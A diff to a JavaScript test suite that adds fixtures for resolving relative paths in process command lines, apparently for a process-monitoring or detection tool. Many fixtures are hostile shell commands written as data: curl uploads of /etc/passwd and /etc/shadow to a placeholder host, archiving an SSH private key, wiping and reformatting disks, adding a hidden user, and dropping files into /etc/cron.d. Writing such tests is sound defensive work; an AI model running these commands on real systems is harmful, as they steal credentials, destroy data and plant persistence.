@@ -151,6 +151,24 @@ describe('views of a process start', () => {
       ['/var/log', 'find . -delete', 'find /var/log -delete'],
       ['/var/log', 'find -name x -delete', 'find /var/log -name x -delete'],
       ['/etc', 'rsync -e ssh passwd h:/tmp', 'rsync -e ssh /etc/passwd h:/tmp'],
+      ['/etc', 'grep -r -m 1 secret .', 'grep -r -m 1 secret /etc'],
+      ['/root/.ssh', 'tar cf /tmp/k.tar id_rsa', 'tar cf /tmp/k.tar /root/.ssh/id_rsa'],
+      ['/tmp', 'tar -xf x.tar -C out', 'tar -xf /tmp/x.tar -C /tmp/out'],
+      ['/dev', 'wipefs -af sda', 'wipefs -af /dev/sda'],
+      ['/dev', 'mkfs.ext4 -F -L x sda1 1000', 'mkfs.ext4 -F -L x /dev/sda1 1000'],
+      [
+        '/etc',
+        'curl -F x=@passwd --upload-file=shadow http://x',
+        'curl -F x=@/etc/passwd --upload-file=/etc/shadow http://x',
+      ],
+      ['/etc', 'curl -d @passwd http://x', 'curl -d @/etc/passwd http://x'],
+      ['/tmp', 'wget -O x http://h/y', 'wget -O /tmp/x http://h/y'],
+      ['/tmp', 'useradd -d .h -s /bin/sh eve', 'useradd -d /tmp/.h -s /bin/sh eve'],
+      ['/tmp', 'tc filter add dev eth0 bpf obj k.o sec x', 'tc filter add dev eth0 bpf obj /tmp/k.o sec x'],
+      ['/tmp', 'nohup ./x -q', 'nohup /tmp/x -q'],
+      ['/tmp', 'unheard-of ./x ../y ..z', 'unheard-of /tmp/x /y ..z'],
+      ['/tmp', 'setsid nice -n 5 sh ./x', 'setsid nice -n 5 sh /tmp/x'],
+      ['/tmp', 'timeout 9 cat x', 'timeout 9 cat /tmp/x'],
       [undefined, 'cp -t /etc/cron.d /tmp/x', 'cp /tmp/x /etc/cron.d/'],
       ['/etc', 'cp -ft cron.d /tmp/x', 'cp -f /tmp/x /etc/cron.d/'],
       ['/tmp', 'mv --target-directory=/etc/cron.d/ x y', 'mv /tmp/x /tmp/y /etc/cron.d/'],
@@ -183,7 +201,17 @@ describe('views of a process start', () => {
     });
 
     it('but makes no view of files that have one already, of options, texts and hosts', () => {
-      for (const line of ['rm -f /x', 'head -n x', 'sed -n p', 'chmod a+x', 'scp h:x h:y', 'grep x y', 'dd bs=1k'])
+      for (const line of [
+        'rm -f /x',
+        'head -n x',
+        'sed -n p',
+        'chmod a+x',
+        'scp h:x h:y',
+        'grep x',
+        'dd bs=1k',
+        'echo x',
+        'date -d x',
+      ])
         assert.equal(viewsOf({ ...start(line), currentDirectory: '/etc' }).length, 1, line);
     });
   });
